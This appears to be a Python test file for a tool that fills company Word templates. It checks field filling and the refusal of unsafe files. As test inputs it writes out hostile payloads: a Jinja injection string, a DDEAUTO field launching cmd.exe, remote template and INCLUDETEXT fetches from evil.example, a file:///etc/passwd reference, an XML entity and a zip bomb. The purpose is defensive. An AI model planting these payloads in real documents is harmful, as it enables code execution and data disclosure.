"""A company's own Word template is filled with text and nothing else."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import docx
import pytest
from docx.oxml import OxmlElement

from tests.documents import campaign
from tongzhou.alignment.documents import MEMORANDUM
from tongzhou.documents.hostile import FileRefused, inspect_letterhead
from tongzhou.documents.letterhead import TemplateRefused, fill_template, inspect_template, template_values
from tongzhou.documents.paper import Extras, lay_out


def template(build: Any) -> bytes:
    document = docx.Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(data: bytes, changes: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, changes.get(name, source.read(name)))
        for name in set(changes) - set(source.namelist()):
            target.writestr(name, changes[name])
    return out.getvalue()


def company_template(document: Any) -> None:
    paragraph = document.add_paragraph("项目：")
    for piece in ("{", "{proj", "ect_na", "me}", "} 完"):
        paragraph.add_run(piece).bold = piece == "{"
    document.add_paragraph("范围：{{ scope }}；编号 {{doc_no}}/{{doc_no}}；{{unheard_of}}")
    document.sections[0].header.paragraphs[0].text = "{{company}} {{doc_no}}"
    table = document.add_table(rows=3, cols=3)
    for cell, text in zip(table.rows[0].cells, ("部门", "职责", "时限"), strict=True):
        cell.text = text
    for cell, text in zip(
        table.rows[1].cells, ("{{#duties}}{{no}} {{dept}}", "{{duty}}", "{{due}}{{/duties}}"), strict=True
    ):
        cell.text = text
    table.rows[2].cells[0].text = "合计"


@pytest.fixture
def values() -> dict[str, Any]:
    return template_values(lay_out(MEMORANDUM, campaign.MEMORANDUM, campaign.HEAD, extras=Extras(company="同舟商贸")))


def test_fields_and_repeated_rows_are_filled(values: dict[str, Any]) -> None:
    filled = fill_template(template(company_template), values)
    document = docx.Document(io.BytesIO(filled.docx))
    assert document.paragraphs[0].text == "项目：618大促活动 完"
    assert "编号 XZ-DJ-2026-0007/XZ-DJ-2026-0007" in document.paragraphs[1].text
    assert document.sections[0].header.paragraphs[0].text == "同舟商贸 XZ-DJ-2026-0007"
    rows = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert rows[0] == ["部门", "职责", "时限"]
    assert [row[0] for row in rows[1:5]] == ["1 市场部", "2 产品部", "3 技术部", "4 销售部"]
    assert rows[2][2] == "2026-05-31"
    assert rows[5][0] == "合计"


def test_a_place_that_is_unknown_is_reported_and_left(values: dict[str, Any]) -> None:
    filled = fill_template(template(company_template), values)
    assert filled.unknown == ("unheard_of",)
    assert "{{unheard_of}}" in docx.Document(io.BytesIO(filled.docx)).paragraphs[1].text


def test_the_template_says_what_it_asks_for(values: dict[str, Any]) -> None:
    contents = inspect_template(template(company_template))
    assert set(contents.fields) == {"project_name", "scope", "doc_no", "unheard_of", "company"}
    assert contents.tables == {"duties": ("no", "dept", "duty", "due")}
    assert contents.unknown(values) == ("unheard_of",)


def test_an_upload_is_inspected_at_arms_length() -> None:
    _fields, tables = inspect_letterhead(template(company_template))
    assert tables == {"duties": ("no", "dept", "duty", "due")}
    with pytest.raises(FileRefused) as caught:
        inspect_letterhead(b"PK\x03\x04 broken")
    assert caught.value.code == "not_a_template"


def test_what_people_wrote_is_text_even_when_it_looks_like_a_place_or_markup() -> None:
    data = template(lambda document: document.add_paragraph("{{a}}{{b}}"))
    filled = fill_template(data, {"a": "{{b}} </w:t><w:br/> & {% x %}", "b": "第一行\n第二行"})
    text = docx.Document(io.BytesIO(filled.docx)).paragraphs[0].text
    assert text == "{{b}} </w:t><w:br/> & {% x %}第一行\n第二行"


def test_a_jinja_template_runs_nothing() -> None:
    attack = "{{ ''.__class__.__mro__ }}{% for x in y %}{{ self.__init__ }}"
    filled = fill_template(template(lambda document: document.add_paragraph(attack)), {"self": "x"})
    assert docx.Document(io.BytesIO(filled.docx)).paragraphs[0].text == attack


def test_an_empty_table_keeps_one_empty_row() -> None:
    filled = fill_template(template(company_template), {"duties": []})
    rows = docx.Document(io.BytesIO(filled.docx)).tables[0].rows
    assert [row.cells[0].text.strip() for row in rows] == ["部门", "", "合计"]


def test_a_repeated_row_that_is_not_closed_is_refused() -> None:
    def build(document: Any) -> None:
        document.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{#duties}}{{duty}}"

    with pytest.raises(TemplateRefused) as caught:
        inspect_template(template(build))
    assert caught.value.code == "unbalanced_table"


def with_document(xml: bytes) -> bytes:
    return repacked(template(company_template), {"word/document.xml": xml})


def with_field(instruction: str) -> bytes:
    def build(document: Any) -> None:
        paragraph = document.add_paragraph()
        for piece in (instruction[:3], instruction[3:]):
            element = OxmlElement("w:instrText")
            element.text = piece
            paragraph.add_run()._r.append(element)

    return template(build)


def fetching(kind: bytes, target: bytes) -> bytes:
    return repacked(template(company_template), {"word/_rels/header9.xml.rels": EXTERNAL % (kind, target)})


EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (repacked(template(company_template), {"word/vbaProject.bin": b"x"}), "macros"),
        (repacked(template(company_template), {"word/embeddings/oleObject1.bin": b"x"}), "active_content"),
        (fetching(b"attachedTemplate", b"https://evil.example/t.dotm"), "external_content"),
        (fetching(b"image", b"file:///etc/passwd"), "external_content"),
        (fetching(b"hyperlink", b"file://server/share"), "external_content"),
        (with_field("DDEAUTO c:\\windows\\system32\\cmd.exe"), "active_content"),
        (with_field("INCLUDETEXT http://evil.example"), "active_content"),
        (with_document(b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "unreadable"),
        (with_document(b"<x"), "unreadable"),
        (b"no zip", "not_a_template"),
        (b"", "not_a_template"),
    ],
)  # fmt: skip
def test_a_template_that_could_run_or_fetch_is_refused(data: bytes, code: str) -> None:
    with pytest.raises(TemplateRefused) as caught:
        fill_template(data, {})
    assert caught.value.code == code


def test_a_plain_link_to_the_companys_site_is_allowed() -> None:
    data = fetching(b"hyperlink", b"https://www.example.com")
    assert fill_template(data, {}).docx


def test_a_template_that_unpacks_to_a_bomb_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<x/>")
        package.writestr("word/document.xml", b" " * (80 << 20))
    with pytest.raises(TemplateRefused) as caught:
        inspect_template(out.getvalue())
    assert caught.value.code == "zip_bomb"
